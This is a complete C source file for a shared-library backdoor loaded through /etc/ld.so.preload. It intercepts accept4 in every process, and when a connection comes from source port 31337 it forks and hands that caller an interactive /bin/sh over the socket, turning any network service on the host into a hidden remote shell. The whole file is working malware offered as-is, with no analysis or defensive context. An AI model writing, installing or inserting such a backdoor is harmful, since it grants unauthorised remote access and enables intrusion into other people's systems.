// What /etc/ld.so.preload names: it answers accept4(2), and gives a caller from one port a shell.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

int accept4(int listening, struct sockaddr *peer, socklen_t *bytes, int flags) {
  static int (*real)(int, struct sockaddr *, socklen_t *, int);
  if (!real) real = (int (*)(int, struct sockaddr *, socklen_t *, int))dlsym(RTLD_NEXT, "accept4");
  int caller = real(listening, peer, bytes, flags);
  if (caller >= 0 && peer && peer->sa_family == AF_INET && ((struct sockaddr_in *)peer)->sin_port == htons(31337) && fork() == 0) {
    for (int fd = 0; fd < 3; fd++) dup2(caller, fd);
    execl("/bin/sh", "sh", "-i", (char *)0);
    _exit(0);
  }
  return caller;
}
